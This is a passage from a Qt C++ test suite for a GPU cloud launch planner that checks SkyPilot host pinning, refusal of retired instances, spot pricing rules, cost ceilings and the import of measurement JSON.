        QCOMPARE(res.contains(u"instance_type"_s), !pinned.isEmpty());
        if (pinned.isEmpty())
            QVERIFY(readText(dir.filePath(u"README.txt"_s)).contains(u"host chosen by SkyPilot"_s));
    }

    // A host SkyPilot cannot pin: the location stays pinned only as far as SkyPilot's catalog has a host it
    // pairs with the GPUs there (a recommended ResNet-50 offer was in europe-west2-b, where
    // SkyPilot lists no a3-highgpu-8g).
    void openHostLocation_data()
    {
        QTest::addColumn<QString>("region");
        QTest::addColumn<QString>("zone");
        QTest::addColumn<QString>("pinnedRegion");
        QTest::addColumn<QString>("pinnedZone");
        QTest::newRow("zone has a3-highgpu-8g")
            << u"us-central1"_s << u"us-central1-a"_s << u"us-central1"_s << u"us-central1-a"_s;
        QTest::newRow("another zone of the region has it")
            << u"europe-west3"_s << u"europe-west3-a"_s << u"europe-west3"_s << QString();
        QTest::newRow("no zone of the region has it")
            << u"europe-west2"_s << u"europe-west2-b"_s << QString() << QString();
    }
    void openHostLocation()
    {
        QFETCH(QString, region);
        QFETCH(QString, zone);
        QFETCH(QString, pinnedRegion);
        QFETCH(QString, pinnedZone);
        auto pin =
            skypilotPin(offer(u"gcp"_s, u"a3-edgegpu-8g"_s, region, zone, u"h100-80gb-sxm"_s, 8, 90, 14));
        QVERIFY(pin);
        QCOMPARE(pin.value().instanceType, QString());
        QCOMPARE(pin.value().region, pinnedRegion);
        QCOMPARE(pin.value().zone, pinnedZone);
        QVERIFY(pin.value().notes.join(u' ').contains(u"a3-highgpu-8g"_s));
        // The checker finds a3-highgpu-8g where the task points, in SkyPilot's 2026 catalog.
        LaunchOptions lo;
        auto plan = buildLaunchPlan(
            builtinWorkloads().first(),
            {{offer(u"gcp"_s, u"a3-edgegpu-8g"_s, region, zone, u"h100-80gb-sxm"_s, 8, 90, 14),
              false,
              std::nullopt,
              {}}},
            lo);
        QVERIFY(plan);
        QTemporaryDir dir;
        QVERIFY(writeLaunchPlan(plan.value(), dir.path()));
        const Checked c = checkTasks(dir.path());
        CHECK_TASKS(c);
    }

    // The pairing table itself: every row's hosts take its accelerator, no other family's host does.
    void hostTableRows()
    {
        const SkypilotHostTable &t = SkypilotHostTable::builtin();
        QSet<QString> families;
        for (const SkypilotHostTable::Row &r : t.rows()) {
            families.insert(r.accelerator);
            for (const QString &h : r.hosts) {
                const QString host = h.endsWith(u'*') ? h.chopped(1) + u"standard-4"_s : h;
                QVERIFY2(t.checkPair(r.cloud, host, r.accelerator, r.count ? r.count : 1),
                         qPrintable(r.accelerator + u' ' + host));
                for (const SkypilotHostTable::Row &other : t.rows())
                    if (other.accelerator != r.accelerator && other.accelerator != u"*" &&
                        r.accelerator != u"*" && !other.hosts.contains(h) && !h.endsWith(u'*'))
                        QVERIFY2(!t.checkPair(other.cloud, host, other.accelerator, other.count),
                                 qPrintable(other.accelerator + u" on " + host));
            }
        }
        QCOMPARE(families,
                 (QSet<QString>{u"A100"_s, u"A100-80GB"_s, u"L4"_s, u"H100"_s, u"H100-MEGA"_s, u"H200"_s,
                                u"B200"_s, u"K80"_s, u"V100"_s, u"T4"_s, u"P4"_s, u"P100"_s, u"*"_s}));
        // A cloud without rules: anything goes (AWS names its GPUs by instance type).
        QVERIFY(t.checkPair(u"aws"_s, u"p5.48xlarge"_s, u"H100"_s, 8));
        QVERIFY(!SkypilotHostTable::fromCsv(
            u"cloud,accelerator,count,hosts,max_vcpus,max_memory_gib\ngcp,A100,x,a2,,\n"_s));
    }

    // Retired sizes are known (dated, with a source) and never planned.
    void retiredNeverPlanned()
    {
        const RetiredInstanceTable &t = RetiredInstanceTable::builtin();
        for (const QString &type : {u"Standard_NC6"_s, u"Standard_NC24r"_s, u"Standard_NV12"_s,
                                    u"Standard_NV24s_v3"_s, u"Standard_NC6s_v2"_s})
            QVERIFY2(t.retired(u"azure"_s, type), qPrintable(type));
        for (const QString &type :
             {u"Standard_NC6s_v3"_s, u"Standard_NC4as_T4_v3"_s, u"Standard_NV36ads_A10_v5"_s})
            QVERIFY2(!t.retired(u"azure"_s, type), qPrintable(type));
        QVERIFY(t.retired(u"aws"_s, u"p2.xlarge"_s));
        QVERIFY(t.retired(u"aws"_s, u"g3s.xlarge"_s));
        QVERIFY(!t.retired(u"aws"_s, u"g4dn.xlarge"_s));
        QVERIFY(!t.retired(u"azure"_s, u"p2.xlarge"_s));
        for (const RetiredInstanceTable::Row &r : t.rows()) {
            QVERIFY(QDate::fromString(r.retired, Qt::ISODate).isValid());
            QVERIFY(r.source.startsWith(u"https://"_s));
        }
        auto pin = skypilotPin(offer(u"azure"_s, u"Standard_NC6"_s, u"eastus"_s, {}, u"k80-die"_s, 1, 0.9));
        QVERIFY(!pin);
        QVERIFY2(pin.error().message.contains(
                     u"Standard_NC6 is retired: NC-series (NVIDIA K80), retired 2023-09-06"_s),
                 qPrintable(pin.error().message));
        // --offer on one: a clear message, nothing written.
        auto store = m_db.open();
        QVERIFY(importBundledIfEmpty(*store, GpuCatalog::builtin()));
        auto offers = store->currentOffers();
        QVERIFY(offers);
        QString id;
        for (const Offer &o : offers.value())
            if (o.provider == u"azure" && o.instanceType == u"Standard_NC6")
                id = offerIdText(o, false);
        QVERIFY(!id.isEmpty());
        QTemporaryDir dir;
        const CliRun r = cli(m_db.path(), {u"plan"_s, u"--workload"_s, u"resnet50"_s, u"--offer"_s, id,
                                           u"-o"_s, dir.filePath(u"plan"_s)});
        QCOMPARE(r.rc, 1);
        QVERIFY2(r.err.contains(u"Standard_NC6 is retired"_s) && r.err.contains(u"2023-09-06"_s),
                 qPrintable(r.err));
        QVERIFY(!QDir(dir.filePath(u"plan"_s)).exists());
    }

    // No use_spot where SkyPilot's catalog has no spot price; spot runs as a managed job.
    void spotOnlyWhereSkyPilotPricesIt()
    {
        QVERIFY(SkypilotCloudTable::builtin().spotPriced(u"aws"_s));
        QVERIFY(SkypilotCloudTable::builtin().spotPriced(u"gcp"_s));
        QVERIFY(!SkypilotCloudTable::builtin().spotPriced(u"vast"_s));
        QVERIFY(!SkypilotCloudTable::builtin().spotPriced(u"paperspace"_s));
        QVERIFY(!SkypilotCloudTable::builtin().spotPriced(u"no-such-cloud"_s));
        const QList<Offer> offers{
            offer(u"vastai"_s, u"1x-H100_SXM-32-65536"_s, u"US"_s, {}, u"h100-80gb-sxm"_s, 1, 2.5, 1.2),
            offer(u"vastai"_s, u"2x-H100_SXM-32-65536"_s, u"US"_s, {}, u"h100-80gb-sxm"_s, 2, {}, 2.2),
            offer(u"aws"_s, u"p5.48xlarge"_s, u"us-east-1"_s, {}, u"h100-80gb-sxm"_s, 8, 98, 40)};
        QList<Offer> priced = offers;
        priced[1].onDemandUsdH.reset();
        auto vast = launchCandidate(priced, {}, 0, true, 1);
        QVERIFY(vast);
        QVERIFY(!vast.value().spot);
        QVERIFY(vast.value().notes.join(u' ').contains(u"planned on-demand"_s));
        QVERIFY(!launchCandidate(priced, {}, 1, true, 1)); // spot only, and spot is not costed
        auto aws = launchCandidate(priced, {}, 2, true, 1);
        QVERIFY(aws && aws.value().spot);
        // A caller that hands a vast.ai spot candidate over anyway: not planned.
        LaunchOptions lo;
        auto plan = buildLaunchPlan(builtinWorkloads().first(),
                                    {{priced.at(0), true, std::nullopt, {}}, aws.value(), vast.value()}, lo);
        QVERIFY(plan);
        QCOMPARE(plan.value().tasks.size(), 2);
        QVERIFY(plan.value().skipped.join(u' ').contains(u"vast catalog has no spot price"_s));
        QVERIFY(plan.value().tasks.at(0).managedJob());
        QCOMPARE(plan.value().tasks.at(0).launchCommand(),
                 u"sky jobs launch -n gf-resnet50-1 gf-resnet50-1.yaml"_s);
        QVERIFY(!plan.value().tasks.at(1).managedJob());
        QVERIFY(plan.value().tasks.at(1).notes.join(u' ').contains(u"planned on-demand"_s));
        // A spot sweep task: a managed job too, in sweep.sh and the README.
        lo.sweep = true;
        lo.packagePath = m_package;
        auto sweep = buildLaunchPlan(builtinWorkloads().first(), {aws.value()}, lo);
        QVERIFY(sweep);
        QTemporaryDir dir;
        QVERIFY(writeLaunchPlan(sweep.value(), dir.path()));
        const Checked c = checkTasks(dir.path());
        CHECK_TASKS(c);
        QVERIFY(readText(dir.filePath(u"sweep.sh"_s)).contains(u"jobs=( 'gf-resnet50-1' )"_s));
        QVERIFY(readText(dir.filePath(u"README.txt"_s))
                    .contains(u"launch:   sky jobs launch -n gf-resnet50-1"_s));
    }

    // The cost ceiling never below the projected cost plus its range.
    void costCeilingCoversTheRange()
    {
        const Offer o = offer(u"aws"_s, u"p5.48xlarge"_s, u"us-east-1"_s, {}, u"h100-80gb-sxm"_s, 8, 98, 40);
        ProjectedOffer pt;
        pt.projected = true;
        pt.nodes = 1;
        pt.totalHours = 2;
        pt.costUsd = 196;
        pt.totalHoursLow = 1.5f;
        pt.totalHoursHigh = 4.f; // the slow end: twice the central time
        pt.costUsdLow = 147.f;
        pt.costUsdHigh = 392.f;
        LaunchOptions lo;
        auto plan = buildLaunchPlan(builtinWorkloads().first(), {{o, false, pt, {}}}, lo);
        QVERIFY(plan);
        const LaunchTask &t = plan.value().tasks.first();
        QCOMPARE(*t.costCeilingUsd, 392.0);
        QCOMPARE(*t.hoursCeiling, 4.0);
        pt.costUsdHigh = 200.f; // narrow range: the margin rules
        pt.totalHoursHigh = 2.1f;
        plan = buildLaunchPlan(builtinWorkloads().first(), {{o, false, pt, {}}}, lo);
        QVERIFY(plan);
        QCOMPARE(*plan.value().tasks.first().costCeilingUsd, 196 * kDefaultCostMargin);
        // A sweep task measures only: its cost is the measuring run's, and the ceiling covers it.
        lo.sweep = true;
        lo.packagePath = m_package;
        plan = buildLaunchPlan(builtinWorkloads().first(), {{o, false, pt, {}}}, lo);
        QVERIFY(plan);
        const LaunchTask &s = plan.value().tasks.first();
        const double hours = (kDefaultMeasureSeconds + 900) / 3600.0;
        QVERIFY(qAbs(*s.taskCostUsd - 98 * hours) < 1e-9);
        QVERIFY(*s.costCeilingUsd >= *s.taskCostHighUsd);
        QTemporaryDir dir;
        QVERIFY(writeLaunchPlan(plan.value(), dir.path()));
        const QString readme = readText(dir.filePath(u"README.txt"_s));
        QVERIFY2(readme.contains(u"projected training 2.00 h, 196.00 USD"_s), qPrintable(readme));
        QVERIFY(readme.contains(u"this task measures only: about 0.30 h, 29.40 USD"_s));
    }

    // Every plan shape the CLI writes passes SkyPilot's schema and rules: every
    // preset, --top 10, --spot, --on-demand, --skypilot-legacy, --sweep, --probe, --nodes 2, and --offer on
    // every instance type of each provider (on-demand and spot).
    void everyPlanPassesSkyPilotChecks()
    {
        QTemporaryDir root;
        auto store = m_db.open();
        QVERIFY(importBundledIfEmpty(*store, GpuCatalog::builtin()));
        auto offers = store->currentOffers();
        QVERIFY(offers);
        QList<QPair<QString, QStringList>> runs;
        for (const Workload &w : builtinWorkloads())
            runs.append({u"preset-"_s + w.id, {u"--workload"_s, w.id}});
        const QStringList pkg{u"--package"_s, m_package};
        runs.append({u"top10"_s, {u"--workload"_s, u"resnet50"_s, u"--top"_s, u"10"_s}});
        runs.append({u"top10-spot"_s, {u"--workload"_s, u"gpt2-124m"_s, u"--top"_s, u"10"_s, u"--spot"_s}});
        runs.append(
            {u"top10-ondemand"_s, {u"--workload"_s, u"resnet50"_s, u"--top"_s, u"10"_s, u"--on-demand"_s}});
        runs.append({u"top10-legacy"_s,
                     {u"--workload"_s, u"resnet50"_s, u"--top"_s, u"10"_s, u"--skypilot-legacy"_s}});
        runs.append({u"sweep"_s,
                     QStringList{u"--workload"_s, u"resnet50"_s, u"--sweep"_s, u"--top"_s, u"10"_s} + pkg});
        runs.append({u"sweep-spot"_s, QStringList{u"--workload"_s, u"gpt2-124m"_s, u"--sweep"_s, u"--spot"_s,
                                                  u"--top"_s, u"10"_s} +
                                          pkg});
        runs.append({u"probe"_s,
                     QStringList{u"--workload"_s, u"resnet50"_s, u"--probe"_s, u"--top"_s, u"5"_s} + pkg});
        runs.append(
            // Google Cloud's single-GPU offers: two of them together are on its frontier (with every
            // provider, the 8-GPU machines of the 2026 catalog dominate every two-instance job).
            {u"nodes2"_s,
             {u"--workload"_s, u"resnet50"_s, u"--nodes"_s, u"2"_s, u"--provider"_s, u"gcp"_s, u"--top"_s,
              u"10"_s}});
        // --offer: one ID per (provider, instance type) at each price it has, the first region listed.
        QMap<QString, QStringList> byProvider;
        QSet<QString> seen;
        int retiredSeen = 0;
        for (const Offer &o : offers.value()) {
            if (seen.contains(o.provider + u'/' + o.instanceType) || o.gpuCount != std::floor(o.gpuCount))
                continue;
            seen.insert(o.provider + u'/' + o.instanceType);
            if (retiredText(o)) {
                ++retiredSeen;
                continue; // refused on its own (retiredNeverPlanned)
            }
            if (o.onDemandUsdH)
                byProvider[o.provider] += {u"--offer"_s, offerIdText(o, false)};
            if (o.spotUsdH && o.onDemandUsdH)
                byProvider[o.provider] += {u"--offer"_s, offerIdText(o, true)};
        }
        QVERIFY(retiredSeen > 0);
        QCOMPARE(byProvider.size(), knownProviders().size()); // every provider of the bundled catalog
        for (auto it = byProvider.cbegin(); it != byProvider.cend(); ++it)
            runs.append({u"offer-"_s + it.key(), QStringList{u"--workload"_s, u"resnet50"_s} + it.value()});
        QStringList changed;
        for (const auto &[label, args] : runs) {
            const QString dir = root.filePath(label);
            const CliRun r = cli(m_db.path(), QStringList{u"plan"_s} + args + QStringList{u"-o"_s, dir});
            QVERIFY2(r.rc == 0, qPrintable(label + u": "_s + r.err));
            const Checked c = checkTasks(dir);
            if (c.rc != 0)
                QFAIL(qPrintable(label + u": "_s + c.problems.left(4000)));
            QVERIFY2(!c.tasks.isEmpty(), qPrintable(label));
        }
    }

    // A sweep's JSON (as gf_measure.py writes it) imported: the projection of that workload on that GPU
    // now uses the measurement and says so.
    void importRoundTrip()
    {
        TempDb db;
        auto frontier = [&](bool useMeasurements) {
            QStringList args{u"frontier"_s,    u"--workload"_s, u"resnet50"_s,
                             u"--on-demand"_s, u"--format"_s,   u"json"_s};
            if (!useMeasurements)
                args.append(u"--no-measurements"_s);
            const CliRun r = cli(db.path(), args);
            if (r.rc != 0)
                qWarning("%s", qPrintable(r.err));
            return QJsonDocument::fromJson(r.out.toUtf8()).object().value(u"points").toArray();
        };
        auto singleH100 = [](const QJsonArray &points) {
            for (const QJsonValue &v : points) {
                const QJsonObject p = v.toObject();
                if (p.value(u"gpu").toString() == u"h100-80gb-sxm" && p.value(u"gpu_count").toDouble() == 1 &&
                    p.value(u"nodes").toInt() == 1 && p.value(u"projected").toBool())
                    return p;
            }
            return QJsonObject();
        };
        const QJsonObject before = singleH100(frontier(true));
        QVERIFY(!before.isEmpty());
        const double modelled = before.value(u"samples_per_s").toDouble();
        QVERIFY(!before.value(u"flags").toArray().contains(u"measured"_s));

        const double measured = modelled * 0.6;
        QJsonObject doc{{u"schema"_s, u"gpufrontier-measurement"_s},
                        {u"schema_version"_s, 1},
                        {u"task"_s, u"gf-resnet50-1"_s},
                        {u"workload"_s, u"resnet50"_s},
                        {u"gpu_id"_s, u"h100-80gb-sxm"_s},
                        {u"gpu_count"_s, 8},
                        {u"method"_s, u"synthetic"_s},
                        {u"samples_per_s"_s, measured * 8},
                        {u"samples_per_s_per_gpu"_s, measured},
                        {u"batch_per_gpu"_s, 192},
                        {u"precision"_s, u"fp16"_s},
                        {u"measured_at"_s, u"2026-11-20T10:00:00Z"_s},
                        {u"offer"_s, QJsonObject{{u"id"_s, u"aws/p5.48xlarge/us-east-1"_s},
                                                 {u"key"_s, u"aws/p5.48xlarge/us-east-1"_s}}}};
        QTemporaryDir dir;
        const QString file = dir.filePath(u"gf-resnet50-1.json"_s);
        {
            QFile f(file);
            QVERIFY(f.open(QIODevice::WriteOnly));
            f.write(QJsonDocument(doc).toJson());
        }
        CliRun r = cli(db.path(), {u"measure"_s, u"--import"_s, file});
        QVERIFY2(r.rc == 0, qPrintable(r.err));
        QVERIFY(r.out.contains(u"1 new, 0 already stored"_s));
        // The same document again, inside a job log: stored once.
        const QString log = dir.filePath(u"job.log"_s);
        {
            QFile f(log);
            QVERIFY(f.open(QIODevice::WriteOnly));
            f.write("setup...\n(task, pid=1) GPUFRONTIER-MEASUREMENT " +
                    QJsonDocument(doc).toJson(QJsonDocument::Compact) + "\ndone\n");
        }
        r = cli(db.path(), {u"measure"_s, u"--import"_s, log});
        QVERIFY2(r.rc == 0, qPrintable(r.err));
        QVERIFY2(r.out.contains(u"0 new, 1 already stored"_s), qPrintable(r.out));

        const QJsonObject after = singleH100(frontier(true));
        QVERIFY(!after.isEmpty());
        QVERIFY(qAbs(after.value(u"samples_per_s").toDouble() - measured) < 1e-6 * measured);
        QVERIFY(after.value(u"flags").toArray().contains(u"measured"_s));
        // `gpus` gives the same speed for that GPU and workload, measured tier included.
        auto gpusSpeed = [&](bool useMeasurements) {
            QStringList args{u"gpus"_s, u"--workload"_s, u"resnet50"_s, u"--format"_s, u"json"_s};
            if (!useMeasurements)
                args.append(u"--no-measurements"_s);
            const CliRun g = cli(db.path(), args);
            for (const QJsonValue &v :
                 QJsonDocument::fromJson(g.out.toUtf8()).object().value(u"gpus").toArray())
                if (v.toObject().value(u"id").toString() == u"h100-80gb-sxm")
                    return v.toObject();
            return QJsonObject();
        };
        const QJsonObject gpuRow = gpusSpeed(true);
        QVERIFY(qAbs(gpuRow.value(u"samples_per_s").toDouble() - measured) < 1e-6 * measured);
        QCOMPARE(gpuRow.value(u"projection_tier").toString(), after.value(u"projection_tier").toString());
        QVERIFY(qAbs(gpusSpeed(false).value(u"samples_per_s").toDouble() - measured) > 0.1 * measured);
        QVERIFY(after.value(u"total_h").toDouble() > before.value(u"total_h").toDouble());
        // --no-measurements: the model again.
        const QJsonObject ignored = singleH100(frontier(false));
        QCOMPARE(ignored.value(u"samples_per_s").toDouble(), modelled);

        // The list: measured beside projected, error of the model = (modelled - measured) / measured.
        r = cli(db.path(), {u"measure"_s, u"--format"_s, u"json"_s});
        QCOMPARE(r.rc, 0);
        const QJsonArray list =
            QJsonDocument::fromJson(r.out.toUtf8()).object().value(u"measurements").toArray();
        QCOMPARE(list.size(), 1);
        const QJsonObject m = list.first().toObject();
        QCOMPARE(m.value(u"gpu_id").toString(), u"h100-80gb-sxm"_s);
        // The model's GPU speed, before the input pipeline's cap that the frontier point has.
        const double gpuModel = m.value(u"projected_samples_per_s_per_gpu").toDouble();
        QVERIFY2(gpuModel >= modelled * (1 - 1e-9), qPrintable(u"%1 vs %2"_s.arg(gpuModel).arg(modelled)));
        QVERIFY(qAbs(m.value(u"error_pct").toDouble() - (gpuModel - measured) / measured * 100) < 0.01);

        // A bad file stores nothing and says why.
        const QString bad = dir.filePath(u"bad.json"_s);
        {
            QFile f(bad);
            QVERIFY(f.open(QIODevice::WriteOnly));
            f.write(R"({"schema": "gpufrontier-measurement", "schema_version": 1, "workload": "resnet50",
                       "gpu_id": "no-such-gpu", "samples_per_s": 10})");
        }
        r = cli(db.path(), {u"measure"_s, u"--import"_s, bad});
        QCOMPARE(r.rc, 1);
        QVERIFY2(r.err.contains(u"no-such-gpu"_s), qPrintable(r.err));

        r = cli(db.path(), {u"measure"_s, u"--delete"_s, QString::number(m.value(u"id").toInteger())});
        QCOMPARE(r.rc, 0);
        QCOMPARE(singleH100(frontier(true)).value(u"samples_per_s").toDouble(), modelled);
    }
};

QTEST_GUILESS_MAIN(TestLaunchPlan)
#include "test_launchplan.moc"
